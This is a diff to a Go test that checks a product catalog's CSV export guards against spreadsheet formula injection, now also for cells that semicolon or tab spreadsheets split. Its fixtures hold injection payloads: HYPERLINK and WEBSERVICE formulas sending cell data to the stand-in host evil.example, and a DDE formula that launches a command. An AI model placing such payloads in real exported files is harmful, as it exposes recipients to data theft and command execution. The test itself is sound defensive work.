@@ -61,6 +61,8 @@ func TestCatalogCSVGuardsFormulasAndImportsBack(t *testing.T) {
 	want := map[string][3]string{ // SKU: title, description, brand
 		"SKU-1": {`=HYPERLINK("//evil.example/?"&A2,"Tent")`, "-2+3 all seasons", "@SUM(A1)"},
 		"SKU-2": {"+1 Ridge Boot", "=cmd|' /C calc'!A0", "Summit"},
+		// A cell a semicolon spreadsheet (Excel in German or French) splits.
+		"SKU-3": {`Skillet;=WEBSERVICE("https://evil.example/?"&A2)`, "Pre-seasoned;\t@SUM(A1)", "Hearth; -2+3"},
 	}
 	for sku, v := range want {
 		must(t, shop.db.W.Model(&models.Product{}).Where("external_id = ?", sku).
@@ -77,8 +79,12 @@ func TestCatalogCSVGuardsFormulasAndImportsBack(t *testing.T) {
 	must(t, err)
 	for _, rec := range recs[1:] {
 		for i, cell := range rec {
-			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
-				t.Errorf("column %s starts a formula: %q", recs[0][i], cell)
+			// As a comma spreadsheet reads it, and split where a semicolon
+			// or tab spreadsheet starts a cell.
+			for _, part := range append([]string{cell}, strings.FieldsFunc(cell, func(r rune) bool { return r == ';' || r == '\t' })...) {
+				if part = strings.TrimLeft(part, " "); part != "" && strings.ContainsRune("=+-@\t\r", rune(part[0])) {
+					t.Errorf("column %s holds a cell that starts a formula: %q in %q", recs[0][i], part, cell)
+				}
 			}
 		}
 	}
